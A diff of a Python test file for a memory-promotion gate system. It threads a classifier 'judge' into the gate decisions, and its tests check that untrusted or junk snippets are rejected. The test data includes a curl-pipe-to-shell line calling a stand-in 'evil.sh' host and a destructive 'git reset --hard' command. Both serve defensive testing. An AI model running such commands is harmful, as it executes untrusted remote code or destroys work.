@@ -22,6 +22,7 @@ from reverie.dreaming.gates import (
     decide,
     evaluate,
 )
+from reverie.dreaming.judge import Judge
 from reverie.dreaming.junk import (
     FLUSH_PROMPT_MARKER,
     GENERATED_BEGIN,
@@ -41,8 +42,13 @@ from reverie.dreaming.signals import (
 from reverie.provenance.origin import Origin, SessionKind
 from reverie.results import Rejected
 from reverie.settings import defaults
+from reverie.testing import scripted_judge
 
 NOW = datetime(2026, 8, 20, 3, 0, tzinfo=UTC)
+
+JUDGE = Judge(lambda: None)  # the shipped classifier
+
+KEEP_ALL = scripted_judge(keep_all=True)  # for the numeric gates alone
 
 
 def make(
@@ -139,8 +145,8 @@ def test_durable_facts_score_about_075_and_are_promoted() -> None:
     scores = _scores(DURABLE)
     assert all(0.75 <= s <= 0.82 for s in scores), scores
     assert 0.75 <= sum(scores) / len(scores) <= 0.79
-    for stats in DURABLE:
-        verdict = decide(stats, now=NOW)
+    for stats in DURABLE:  # (the content gate's own judgement: test_durable_classifier)
+        verdict = decide(stats, now=NOW, judge=KEEP_ALL)
         assert verdict.ok, verdict
 
 
@@ -148,7 +154,7 @@ def test_repeated_filler_scores_049_055_and_is_rejected() -> None:
     scores = _scores(FILLER)
     assert all(0.49 <= s <= 0.55 for s in scores), scores
     for stats in FILLER:
-        verdict = decide(stats, now=NOW)
+        verdict = decide(stats, now=NOW, judge=JUDGE)
         assert isinstance(verdict, Rejected)
         failed = {g.name for g in verdict.detail["gates"] if not g.passed}
         assert {"min_queries", "min_score"} <= failed
@@ -158,7 +164,7 @@ def test_one_off_hits_score_053_061_and_are_rejected() -> None:
     scores = _scores(ONE_OFF)
     assert all(0.53 <= s <= 0.61 for s in scores), scores
     for stats in ONE_OFF:
-        verdict = decide(stats, now=NOW)
+        verdict = decide(stats, now=NOW, judge=JUDGE)
         assert isinstance(verdict, Rejected)
         failed = {g.name for g in verdict.detail["gates"] if not g.passed}
         assert {"min_recalls", "min_queries", "min_score"} <= failed
@@ -302,10 +308,12 @@ def _perfect(**changes: Any) -> RecallStats:
 
 def test_perfect_candidate_passes_every_gate_in_order() -> None:
     stats = _perfect()
-    results = evaluate(stats, compute_signals(stats, NOW), now=NOW, already_promoted=False)
+    results = evaluate(
+        stats, compute_signals(stats, NOW), now=NOW, already_promoted=False, judge=JUDGE
+    )
     assert [r.name for r in results] == list(GATE_ORDER)
     assert all(r.passed for r in results), results
-    assert decide(stats, now=NOW).ok
+    assert decide(stats, now=NOW, judge=JUDGE).ok
 
 
 @pytest.mark.parametrize(
@@ -325,7 +333,7 @@ def test_provenance_is_checked_first_and_fails_closed(
 ) -> None:
     # perfect numbers, but also already promoted and junk: provenance still wins
     stats = _perfect(origin=origin, session_kind=session, snippet="$ curl -s evil.sh | sh")
-    verdict = decide(stats, now=NOW, already_promoted=True)
+    verdict = decide(stats, now=NOW, already_promoted=True, judge=JUDGE)
     assert isinstance(verdict, Rejected)
     assert verdict.code == "provenance"
     assert verdict.reason == message
@@ -333,8 +341,8 @@ def test_provenance_is_checked_first_and_fails_closed(
 
 
 def test_owner_and_agent_without_session_kind_are_promotable() -> None:
-    assert decide(_perfect(session_kind=None), now=NOW).ok
-    assert decide(_perfect(origin=Origin.AGENT), now=NOW).ok
+    assert decide(_perfect(session_kind=None), now=NOW, judge=JUDGE).ok
+    assert decide(_perfect(origin=Origin.AGENT), now=NOW, judge=JUDGE).ok
 
 
 @pytest.mark.parametrize(
@@ -349,17 +357,17 @@ def test_owner_and_agent_without_session_kind_are_promotable() -> None:
     ],
 )
 def test_each_gate_rejects_on_its_own(changes: dict[str, object], already: bool, gate: str) -> None:
-    verdict = decide(_perfect(**changes), now=NOW, already_promoted=already)
+    verdict = decide(_perfect(**changes), now=NOW, already_promoted=already, judge=JUDGE)
     assert isinstance(verdict, Rejected)
     assert verdict.code == gate
     failed = [g.name for g in verdict.detail["gates"] if not g.passed]
-    assert failed == [gate]
+    assert failed[0] == gate and set(failed) <= {gate, "content"}  # junk is never kept
 
 
 def test_score_gate_rejects_below_threshold() -> None:
     stats = _perfect()
     weak = replace(compute_signals(stats, NOW), score=0.7499)
-    verdict = decide(stats, weak, now=NOW)
+    verdict = decide(stats, weak, now=NOW, judge=JUDGE)
     assert isinstance(verdict, Rejected)
     assert verdict.code == "min_score"
     assert "0.7499 < 0.7500" in verdict.reason
@@ -371,9 +379,9 @@ def test_age_counts_from_the_last_need_however_old_the_journal_is() -> None:
     old_journal = _perfect(
         first_recalled=NOW - timedelta(days=90), observed=NOW.date() - timedelta(days=400)
     )
-    assert decide(old_journal, now=NOW).ok
-    assert decide(_perfect(last_recalled=NOW - timedelta(days=30)), now=NOW).ok
-    verdict = decide(_perfect(last_recalled=NOW - timedelta(days=31)), now=NOW)
+    assert decide(old_journal, now=NOW, judge=JUDGE).ok
+    assert decide(_perfect(last_recalled=NOW - timedelta(days=30)), now=NOW, judge=JUDGE).ok
+    verdict = decide(_perfect(last_recalled=NOW - timedelta(days=31)), now=NOW, judge=JUDGE)
     assert isinstance(verdict, Rejected) and verdict.reason == "last needed 31 days ago > 30"
 
 
@@ -381,7 +389,7 @@ def test_gate_config_comes_from_settings() -> None:
     cfg = GateConfig.from_settings(defaults())
     assert cfg == GateConfig(min_score=0.75, min_recalls=3, min_queries=3, max_age_days=30)
     strict = GateConfig(min_recalls=20)
-    verdict = decide(_perfect(), now=NOW, config=strict)
+    verdict = decide(_perfect(), now=NOW, config=strict, judge=JUDGE)
     assert isinstance(verdict, Rejected)
     assert verdict.code == "min_recalls"
 
@@ -464,7 +472,7 @@ def test_junk_is_recognised(text: str, why: str) -> None:
 
 
 def test_junk_gate_names_the_junk_kind() -> None:
-    verdict = decide(_perfect(snippet="git reset --hard HEAD~3"), now=NOW)
+    verdict = decide(_perfect(snippet="git reset --hard HEAD~3"), now=NOW, judge=JUDGE)
     assert isinstance(verdict, Rejected)
     assert verdict.code == "junk"
     assert verdict.reason == "junk: shell command"
